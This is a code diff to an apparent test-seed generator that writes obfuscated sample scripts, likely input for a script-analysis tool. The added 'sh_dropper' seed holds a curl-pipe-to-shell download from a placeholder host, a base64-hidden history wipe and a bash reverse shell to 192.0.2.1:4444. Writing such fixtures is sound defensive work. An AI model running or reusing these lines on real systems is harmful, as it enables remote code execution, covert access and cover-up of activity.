@@ -70,5 +70,7 @@ seeds["bat_vars"] = b"\x03" + b"@echo off\r\nset a=pow\r\nset \"b=ershell\"\r\nc
 seeds["hta_blocks"] = b"\x04" + b'<html><script language="VBScript">s = Chr(65) & "b"</script><script>document.write(unescape("%3Cscript%3Ex=1%3C/script%3E"))</script></html>'
 seeds["ps_format"] = b"\x00" + b"&(\"{1}{0}\" -f 'ex','i') ((('a'+'b') -replace 'b','c') + [char]72 + -join ('x','y'))"
 seeds["vbe"] = b"\x01" + b"#@~^DgAAAA==\\ko$K6,JC\x7fV^GJqAQAAA==^#~@"
+seeds["sh_dropper"] = b"\x06" + (b"#!/bin/sh\ncurl -s http://a.example/i.sh | sh\necho " + base64.b64encode(b"history -c\n") +
+                                 b" | base64 -d | bash\nbash -i >& /dev/tcp/192.0.2.1/4444 0>&1\n")
 for name, data in seeds.items():
     open(os.path.join(script_dir, name), "wb").write(data)
